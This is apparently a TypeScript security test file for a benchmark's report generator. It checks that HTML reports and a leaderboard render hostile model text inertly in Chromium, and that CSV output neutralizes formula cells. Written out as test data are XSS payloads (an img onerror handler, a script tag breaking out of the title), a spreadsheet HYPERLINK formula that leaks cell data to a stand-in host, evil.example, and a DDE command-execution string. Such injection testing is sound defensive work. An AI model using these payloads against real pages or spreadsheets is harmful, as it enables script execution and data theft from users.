/**
 * Model text is untrusted. A run whose prompts, answers, responses, technique name, suite name and
 * warnings carry XSS payloads must render them as inert text in Chromium (no dialog, no script,
 * no injected element), and the CSVs must neutralize formula cells.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeReports } from './index.ts';
import { writeLeaderboard } from './leaderboard.ts';
import { browserUnavailable, launch } from './testing/browser.ts';
import { syntheticDir, tmpDir } from './testing/tmp-run.ts';
import { PAYLOADS } from './testing/xss-payloads.ts';

const EVIL_TECHNIQUE = '<img src=x onerror=window.__pwned=99;alert(99)>';
const EVIL_SUITE = '</title><script>window.__pwned=98;alert(98)</script>';

const norm = (s: string) => s.split(/\s+/).filter(Boolean).join(' ');

function payloadRun(): string {
  const dir = syntheticDir({
    suite: EVIL_SUITE,
    techniques: ['none', EVIL_TECHNIQUE, 'soft-label'],
    payloads: PAYLOADS,
    examples: 22,
  });
  writeReports(dir);
  return dir;
}

describe('CSV of a run with hostile model text', () => {
  const dir = payloadRun();

  it('neutralizes every formula-looking string cell in examples.csv and results.csv', () => {
    for (const f of ['examples.csv', 'results.csv']) {
      const rows = parse(readFileSync(join(dir, f), 'utf8')) as string[][];
      const header = rows[0];
      const numeric = new Set(['mean', 'ci_low', 'ci_high', 'gain', 'gain_ci_low', 'gain_ci_high', 'gain_p']);
      for (const r of rows.slice(1)) {
        r.forEach((cell, i) => {
          if (numeric.has(header[i]) && /^-?\d/.test(cell)) return; // real numbers stay numeric
          expect(cell, `${f} column ${header[i]}`).not.toMatch(/^[=+\-@\t\r]/);
        });
      }
    }
    const text = readFileSync(join(dir, 'examples.csv'), 'utf8');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
    expect(text).toContain("'+cmd|' /C calc'!A0");
  });

  it('keeps summary.md free of raw HTML from names', () => {
    const md = readFileSync(join(dir, 'summary.md'), 'utf8');
    expect(md).not.toMatch(/<img|<script/i);
    expect(md).toContain('&lt;img src=x onerror=window.\\_\\_pwned=99;alert(99)&gt;');
  });
});

describe.skipIf(browserUnavailable() !== null)(
  'report.html and index.html of a run with hostile model text, in Chromium',
  () => {
    let ctx: BrowserContext;
    const dialogs: string[] = [];
    const errors: string[] = [];
    let dir: string;

    beforeAll(async () => {
      dir = payloadRun();
      ctx = await launch();
    });
    afterAll(async () => {
      await ctx?.close();
    });

    async function open(file: string): Promise<Page> {
      const page = await ctx.newPage();
      page.on('dialog', async (d) => {
        dialogs.push(d.message());
        await d.dismiss();
      });
      page.on('pageerror', (e) => errors.push(e.message));
      await page.goto(pathToFileURL(file).href);
      return page;
    }

    /** No executable or foreign element made it into the DOM. */
    async function expectInertDom(page: Page, scripts: number): Promise<void> {
      const found = await page.evaluate(() => ({
        handlers: [...document.querySelectorAll('*')].flatMap((el) =>
          [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${el.tagName}[${a.name}]`),
        ),
        foreign: [
          ...document.querySelectorAll(
            'img, iframe, object, embed, math, details:not(.manifest), a[href^="javascript"], textarea',
          ),
        ].map((e) => e.tagName),
        scripts: document.querySelectorAll('script').length,
        styles: document.querySelectorAll('style').length,
        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      }));
      expect(found).toEqual({ handlers: [], foreign: [], scripts, styles: 1, pwned: undefined });
    }

    it('report.html: payloads show as text, nothing runs, no element is injected', async () => {
      const page = await open(join(dir, 'report.html'));
      expect(await page.title()).toBe(`distill-bench · ${EVIL_SUITE}`);
      expect(await page.textContent('#leaderboard tbody tr:nth-child(2) td:first-child')).toBe(
        EVIL_TECHNIQUE,
      );
      expect(
        await page.$$eval('svg.chart text', (ts) =>
          ts.some((t) => t.textContent === '<img src=x onerror=window.__pwned=99;alert(99)>'),
        ),
      ).toBe(true);
      // Walk every page of the example browser, so every payload is rendered at least once.
      let shown = '';
      for (;;) {
        shown += ` ${await page.$$eval('#ex-list .mt', (els) => els.map((e) => e.textContent).join(' \n '))}`;
        if (await page.isDisabled('#ex-next')) break;
        await page.click('#ex-next');
      }
      for (const p of PAYLOADS) expect(norm(shown), p).toContain(norm(p));
      await page.selectOption('#ex-technique', { label: EVIL_TECHNIQUE });
      await page.selectOption('#ex-outcome', 'incorrect');
      await page.fill('#ex-search', 'script');
      await page.click('details.manifest summary');
      expect(await page.textContent('#warnings')).toContain(PAYLOADS[0]);
      await page.waitForTimeout(200);
      await expectInertDom(page, 2);
    });

    it('index.html of the leaderboard: same', async () => {
      const out = join(tmpDir(), 'site');
      writeLeaderboard([dir], out);
      const page = await open(join(out, 'index.html'));
      expect(await page.textContent('body')).toContain(EVIL_TECHNIQUE);
      await page.waitForTimeout(200);
      await expectInertDom(page, 1);
    });

    it('no dialog opened and no script error happened', () => {
      expect(dialogs).toEqual([]);
      expect(errors).toEqual([]);
    });
  },
);
